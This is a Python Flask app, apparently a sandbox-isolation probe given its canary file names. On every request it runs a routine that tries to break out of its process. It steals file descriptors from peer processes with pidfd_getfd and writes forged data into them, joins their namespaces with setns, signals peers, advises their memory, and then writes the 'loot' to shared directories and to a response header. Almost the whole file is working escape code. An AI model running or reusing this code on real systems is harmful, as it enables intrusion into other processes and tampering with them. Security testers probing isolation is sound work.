"""Borrows what others hold open."""

from pathlib import Path
import contextlib
import ctypes
import fcntl
import os
import select
import signal
import socket
import struct

from flask import Flask, request

libc = ctypes.CDLL(None, use_errno=True)
SO_PEERPIDFD, PIDFD_GETFD, SIOCGSKNS, NS_GET_USERNS = 77, 438, 0x894C, 0xB701
PIDFD_NAMESPACES = range(0xFF01, 0xFF0B)
NEW = 0x10000000 | 0x20000 | 0x40000000 | 0x20000000


def peers():
    """Yield descriptors of the processes at the other end of this one's sockets."""
    for number in range(3, 20):
        with contextlib.suppress(OSError):
            sock = socket.socket(fileno=os.dup(number))
            with contextlib.suppress(OSError):
                data = sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
                yield "credentials", struct.unpack("iii", data)
            yield "peer", sock.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
    for pid in range(1, 40):
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                yield str(pid), os.pidfd_open(pid)


def attack():
    found = []
    for name, pidfd in peers():
        if name == "credentials":
            if pidfd[0] > 40:
                found.append(f"a peer with the number {pidfd[0]}")
            continue
        for number in range(64):
            taken = libc.syscall(PIDFD_GETFD, pidfd, number, 0)
            if taken >= 0:
                found.append(f"descriptor {number} of {name}")
                with contextlib.suppress(OSError):
                    os.write(taken, struct.pack("!II", 16, 0) + b'{"error": "no!"}')
        if libc.setns(pidfd, NEW) == 0 or libc.setns(pidfd, 0x40000000) == 0:
            found.append(f"entered the namespaces of {name}")
        for wanted in PIDFD_NAMESPACES:
            with contextlib.suppress(OSError):
                inside = fcntl.ioctl(pidfd, wanted, 0)
                if libc.setns(inside, 0) == 0:
                    found.append(f"entered namespace {wanted} of {name}")
        if name == "peer":
            for signal_number in (0, signal.SIGWINCH):
                with contextlib.suppress(OSError):
                    signal.pidfd_send_signal(pidfd, signal_number)
                    found.append("signalled a peer")
        if libc.syscall(440, pidfd, None, 0, 4, 0) == 0:
            found.append(f"advised the memory of {name}")
    for number in range(3, 20):
        with contextlib.suppress(OSError):
            namespace = fcntl.ioctl(number, SIOCGSKNS, 0)
            found.append(f"has the network namespace of descriptor {number}")
            if libc.setns(namespace, 0x40000000) == 0:
                found.append("entered it")
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
